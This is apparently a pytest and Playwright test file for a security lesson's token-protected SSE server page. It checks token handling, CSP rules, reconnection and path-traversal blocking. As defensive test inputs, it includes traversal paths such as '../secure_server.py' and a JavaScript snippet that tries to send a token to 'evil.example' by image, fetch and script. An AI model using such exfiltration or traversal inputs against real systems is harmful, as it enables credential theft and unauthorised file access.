"""Lesson 09's page in Chromium: a token in headers, and a ticket in the stream's URL."""

from __future__ import annotations

import os
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.page_parts import complaints, open_page
from workshop.course import ROOT
from workshop.running import Program, free_port, running

pytestmark = pytest.mark.usefixtures("warm")

SERVER = ROOT / "scripts/09_security/secure_server.py"
TOKEN = "a" * 40
ENVIRONMENT = {"MCP_TOKENS": f"alice:{TOKEN}"}


@pytest.fixture(scope="module")
def server() -> Iterator[Program]:
    with running(SERVER, env=ENVIRONMENT, seconds=60) as program:
        yield program


@pytest.fixture
def page(chromium: Browser, server: Program) -> Iterator[Page]:
    with open_page(chromium, width=1280, height=900) as page:
        page.goto(server.url)
        yield page


def connect(page: Page, token: str = TOKEN) -> None:
    page.get_by_label("Your token").fill(token)
    page.get_by_role("button", name="Connect").click()


def test_a_note_is_read(page: Page, server: Program) -> None:
    streams: list[str] = []
    page.on("request", lambda request: streams.append(request.url))
    expect(page.get_by_role("button", name="Call read_note")).to_be_disabled()
    connect(page)
    expect(page.locator("#state")).to_have_text("connected to sse-server-by-hand")
    expect(page.locator("#tools li")).to_contain_text(
        ["echo:", "wait:", "read_note:", "count_lines:"]
    )
    page.get_by_role("button", name="Call read_note").click()
    expect(page.locator("#text")).to_have_text("Welcome. These notes are for everyone.")
    page.get_by_label("The note to read").fill("../secure_server.py")
    page.get_by_role("button", name="Call read_note").click()
    expect(page.locator("#text")).to_have_text("read_note failed: there is no such note")
    # The token is in no URL, no field and no storage; no ticket is in the log.
    assert all(TOKEN not in url for url in streams)
    expect(page.get_by_label("Your token")).to_have_value("")
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert 'GET /sse?ticket=… HTTP/1.1" 200' in server.output
    if folder := os.environ.get("WORKSHOP_SCREENSHOTS"):
        page.screenshot(path=f"{folder}/lesson_09.png")


def test_it_fits_and_can_be_read(page: Page) -> None:
    connect(page)
    expect(page.locator("#state")).to_contain_text("connected to")
    page.get_by_label("The note to read").fill("no such " * 30)
    page.get_by_role("button", name="Call read_note").click()
    expect(page.locator("#text")).to_contain_text("no such note")
    assert complaints(page) == []


def test_a_wrong_token_is_not_sent_again(page: Page) -> None:
    connect(page, "c" * 40)
    expect(page.locator("#state")).to_have_text(
        "not connected: 401 Send Authorization: Bearer and your token"
    )
    expect(page.locator("#log li")).to_have_text(["POST /ticket: 401"])


# Runs it, and waits for the rule that stopped it.
STOPPED = """async (what) => {
    const stopped = new Promise((resolve) => {
        addEventListener("securitypolicyviolation", (event) => {
            resolve(event.effectiveDirective);
        }, { once: true });
    });
    const url = "http://evil.example/?token";
    try {
        if (what === "image") new Image().src = url;
        if (what === "request") await fetch(url);
        if (what === "script") document.createElement("script").src = url;
        if (what === "html") document.body.innerHTML = "<b>no</b>";
    } catch { }
    return await stopped;
}"""


def test_the_page_speaks_to_its_server_alone_and_runs_no_foreign_script(page: Page) -> None:
    found = {
        what: page.evaluate(STOPPED, what) for what in ("image", "request", "script", "html")
    }
    assert found == {
        "image": "img-src",
        "request": "connect-src",
        "script": "require-trusted-types-for",
        "html": "require-trusted-types-for",
    }


@contextmanager
def cutting_proxy(port: int) -> Iterator[tuple[int, list[socket.socket]]]:
    """Passes bytes on, both ways. A test can cut what is open."""
    listener = socket.create_server(("127.0.0.1", 0))
    open_now: list[socket.socket] = []

    def pump(source: socket.socket, sink: socket.socket) -> None:
        try:
            while data := source.recv(65_536):
                sink.sendall(data)
        except OSError:
            pass
        for each in (source, sink):
            # Not close: it would tell nobody while another thread waits for this socket.
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)

    def accept() -> None:
        while True:
            try:
                near, _ = listener.accept()
            except OSError:
                return
            far = socket.create_connection(("127.0.0.1", port))
            open_now.extend((near, far))
            for pair in ((near, far), (far, near)):
                threading.Thread(target=pump, args=pair, daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1], open_now
    finally:
        listener.close()


def cut(sockets: list[socket.socket]) -> None:
    for each in sockets:
        with suppress(OSError):  # it had ended already
            each.shutdown(socket.SHUT_RDWR)


def test_a_broken_stream_comes_back_with_a_new_ticket(chromium: Browser) -> None:
    port = free_port()
    with cutting_proxy(port) as (front, sockets):
        hosts = {"ALLOWED_HOSTS": f"127.0.0.1:{front}"}
        with running(SERVER, port=port, env={**ENVIRONMENT, **hosts}, seconds=60) as server:
            page = chromium.new_page()
            page.goto(f"http://127.0.0.1:{front}")
            connect(page)
            expect(page.locator("#state")).to_contain_text("connected to")
            cut(sockets)
            streams = page.locator("#log li", has_text="GET /sse")
            expect(streams).to_have_count(2, timeout=15_000)
            expect(page.locator("#state")).to_contain_text("connected to")
            page.get_by_role("button", name="Call read_note").click()
            expect(page.locator("#text")).to_contain_text("Welcome")
            assert len(re.findall(r'POST /ticket HTTP/1.1" 200', server.output)) == 2
            assert 'ticket=… HTTP/1.1" 401' not in server.output
            page.close()


def test_only_the_page_is_public(server: Program) -> None:
    policy = httpx2.get(server.url).headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy
    for path, status in (
        ("/", 200),
        ("/page/page.js", 200),
        ("/page/page.css", 200),
        ("/page/style.css", 200),
        ("/page/index.html", 404),
        ("/page/..%2f..%2fsettings.py", 404),
        ("/page/%2e%2e/sse", 404),
        ("/page", 401),
        ("//", 401),
        ("/sse", 401),
        ("/page/../sse", 404),
        ("/ticket", 401),
    ):
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as raw:
            host = f"127.0.0.1:{server.port}"
            head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            raw.sendall(head.encode())
            answer = b"".join(iter(lambda: raw.recv(65_536), b""))
        assert answer.startswith(f"HTTP/1.1 {status} ".encode()), path
    assert httpx2.post(server.url).status_code == 401
    assert httpx2.post(f"{server.url}/page/page.js").status_code == 401
